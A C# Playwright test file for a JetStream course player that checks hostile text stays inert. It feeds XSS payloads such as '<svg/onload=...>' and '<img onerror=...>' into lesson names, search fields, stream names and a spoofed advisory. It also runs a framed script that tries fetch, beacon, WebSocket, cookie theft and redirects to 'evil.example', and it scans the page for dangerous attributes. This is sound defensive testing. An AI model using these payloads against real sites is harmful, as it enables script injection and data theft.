using Microsoft.Playwright;
using NATS.Client.Core;
using NATS.Client.JetStream;
using NATS.Client.JetStream.Models;

namespace Player.Tests.Browser;

/// <summary>Text that comes from elsewhere stays text: nothing of it runs, opens a dialog, leads to another site or asks another server.</summary>
[Collection(nameof(BrowserRoom))]
public class HostileTextTests(BrowserRoom room)
{
    // The policy's refusals of images are errors on the console, which is what they are for.
    private async Task<LessonPage> OpenAsync(string path)
    {
        var page = await LessonPage.OpenAsync(room, path, mayReportErrors: true, prepare: page =>
        {
            page.Dialog += (_, dialog) => throw new InvalidOperationException($"A dialog opened: {dialog.Message}");
            return Task.CompletedTask;
        });
        return page;
    }

    [Fact]
    public async Task A_lesson_of_hostile_names_prose_outputs_errors_and_charts_shows_them_as_text()
    {
        await using var lesson = await OpenAsync(HostileLesson.Address);
        await lesson.ReadyAsync();
        await LessonPage.SaysAsync(lesson.Page.Locator("h1"), "<svg/onload=window.hit=1>");
        await LessonPage.SaysAsync(lesson.Page.Locator(".prose").First, "A box");
        await Assertions.Expect(lesson.Page.Locator(".prose :is(meta, script, style, form, iframe, svg, object)")).ToHaveCountAsync(0);
        await lesson.Page.GetByText("A box", new() { Exact = true }).ClickAsync();
        await lesson.Page.GetByText("bold", new() { Exact = true }).HoverAsync();
        await lesson.RunAsync(2, 3, 4);
        await LessonPage.SaysAsync(lesson.Outputs(3).Locator(".stdout").First, "<svg/onload=");
        await LessonPage.SaysAsync(lesson.Outputs(3).Locator(".stderr"), "<svg/onload=");
        await lesson.Cell(4).Locator(".chart").ScrollIntoViewIfNeededAsync();
        await lesson.Page.WaitForSelectorAsync("#cell-4 .slot[data-drawn] .main-svg");
        await lesson.Cell(4).GetByText("Show as table").ClickAsync();
        await LessonPage.SaysAsync(lesson.Cell(4).Locator("td"), "<svg/onload=");
        await lesson.AskAsync<object>("void Plotly.Fx.hover(document.querySelector('#cell-4 .js-plotly-plot'), [{ curveNumber: 0, pointNumber: 0 }])");
        await lesson.Page.WaitForSelectorAsync("#cell-4 .hovertext");
        await lesson.Cell(5).GetByRole(AriaRole.Button, new() { Name = "Run cell 4" }).ClickAsync();
        await LessonPage.SaysAsync(lesson.Outputs(5).Locator(".error"), "<svg/onload=");
        await NothingActsAsync(lesson);
        // What was kept by the server comes another way.
        await lesson.Page.ReloadAsync();
        await LessonPage.SaysAsync(lesson.Outputs(5).Locator(".error"), "<svg/onload=");
        await NothingActsAsync(lesson);
    }

    [Fact]
    public async Task The_contents_and_the_search_show_hostile_names_as_text()
    {
        await using var contents = await OpenAsync("/");
        await LessonPage.SaysAsync(contents.Page.Locator(".lessons").Last, "<svg/onload=window.hit=1>");
        await contents.Page.GetByLabel("Search lessons and glossary").FillAsync("quagga");
        await LessonPage.SaysAsync(contents.Page.Locator(".hits"), "<svg/onload=window.hit=1>");
        await contents.Page.GetByLabel("Search lessons and glossary").FillAsync("<img src=x onerror=window.hit=1>zzz");
        await LessonPage.SaysAsync(contents.Page.Locator(".search .note"), "<img src=x onerror=window.hit=1>zzz");
        await NothingActsAsync(contents);
    }

    [Fact]
    public async Task The_server_panel_shows_hostile_streams_subjects_consumers_and_advisories_as_text()
    {
        await using var connection = new NatsConnection(new NatsOpts { Url = room.NatsUrl });
        var js = new NatsJSContext(connection);
        await js.CreateStreamAsync(new StreamConfig("<svg\"'&", ["hostile.<img/src=x/onerror=window.hit=1>"]) { Description = "<img src=x onerror=window.hit=1>", Metadata = new Dictionary<string, string> { ["jetstream-course"] = "<img src=x onerror=window.hit=1>" } });
        await js.CreateOrUpdateConsumerAsync("<svg\"'&", new ConsumerConfig("<b\"'&") { AckPolicy = ConsumerConfigAckPolicy.Explicit });
        await using (var contents = await OpenAsync("/"))
        {
            await contents.Page.GetByRole(AriaRole.Button, new() { Name = "Server", Exact = true }).ClickAsync();
            await LessonPage.SaysAsync(contents.Page.Locator("#server"), "hostile.<img/src=x/onerror=window.hit=1>");
            await LessonPage.SaysAsync(contents.Page.Locator("#server"), "<b\"'&");
            // Whoever may publish may send what looks like an advisory.
            await connection.PublishAsync("$JS.EVENT.ADVISORY.HOSTILE", """
                {"type":"io.nats.jetstream.advisory.v1.<img src=x onerror=window.hit=1>","timestamp":"<svg/onload=window.hit=1>","stream":"<script>window.hit=1</script>","consumer":"<img src=x onerror=window.hit=1>"}
                """);
            await LessonPage.SaysAsync(contents.Page.Locator(".advisories"), "<script>window.hit=1</script>");
            await NothingActsAsync(contents);
        }
        await js.DeleteStreamAsync("<svg\"'&");
    }

    [Fact]
    public async Task A_script_in_its_frame_reaches_no_network_no_other_page_and_not_the_course()
    {
        await using var lesson = await OpenAsync("/lesson/try/frame");
        await lesson.ReadyAsync();
        await lesson.WriteAsync(2, """"
            Microsoft.DotNet.Interactive.Kernel.HTML("""
                <p id="said">tried:</p><form id="form" action="https://evil.example/sent" method="post"></form><script>
                const said = word => document.getElementById("said").append(" " + word);
                const tries = {
                  fetch: () => fetch("https://evil.example/fetched"), own: () => fetch(document.referrer + "/api/course"), socket: () => { new WebSocket("wss://evil.example/"); },
                  image: () => new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; i.src = "https://evil.example/pixel.png"; }),
                  parent: () => parent.document.title, top: () => { top.location = "https://evil.example/top"; }, open: () => { if (!window.open("https://evil.example/opened")) throw 1; },
                  form: () => document.getElementById("form").submit(), storage: () => localStorage.length, cookie: () => document.cookie, beacon: () => { if (!navigator.sendBeacon("https://evil.example/b")) throw 1; },
                };
                (async () => {
                  for (const [name, act] of Object.entries(tries)) try { await act(); said(name + " went"); } catch { said(name + " refused"); }
                  said("end");
                })();
                addEventListener("click", () => { location = "https://evil.example/moved"; });
                </script>
                """).Display();
            """");
        await lesson.Page.Keyboard.PressAsync("Control+Enter");
        await lesson.Page.GetByRole(AriaRole.Button, new() { Name = "Show this output" }).ClickAsync();
        await lesson.Page.WaitForFunctionAsync("() => document.querySelector('iframe')");
        var frame = lesson.Page.Frames.Single(f => f != lesson.Page.MainFrame);
        await LessonPage.SaysAsync(frame.Locator("body"), " end");
        var said = await frame.Locator("body").InnerTextAsync();
        foreach (var name in new[] { "fetch", "own", "image", "parent", "top", "open", "storage", "cookie" })
            Assert.Contains($"{name} refused", said);
        Assert.Single(lesson.Page.Context.Pages);
        await frame.Locator("#said").ClickAsync();
        // The browser's own page, which says that the policy blocks the way.
        await Assertions.Expect(frame.Locator("#said")).ToHaveCountAsync(0);
        await NothingActsAsync(lesson);
    }

    private static async Task NothingActsAsync(LessonPage page)
    {
        Assert.StartsWith(new Uri(page.Page.Url).GetLeftPart(UriPartial.Authority), page.Origin, StringComparison.Ordinal);
        Assert.Empty(await page.AskAsync<string[]>(
            """
            [...document.querySelectorAll("*")].filter(e =>
              [...e.attributes].some(a => /^on/i.test(a.name) || (/href$|^src$|^action$/.test(a.name) && /^\s*(javascript|data:text|vbscript)/i.test(a.value))) ||
              (e.matches("main :is(script, meta, base, link, form:not(.search), object, embed), main svg foreignObject, main :is(.prose, .outputs) iframe:not(.framed iframe)"))).map(e => e.outerHTML)
            """));
        Assert.True(await page.AskAsync<bool>("window.hit === undefined"));
    }
}
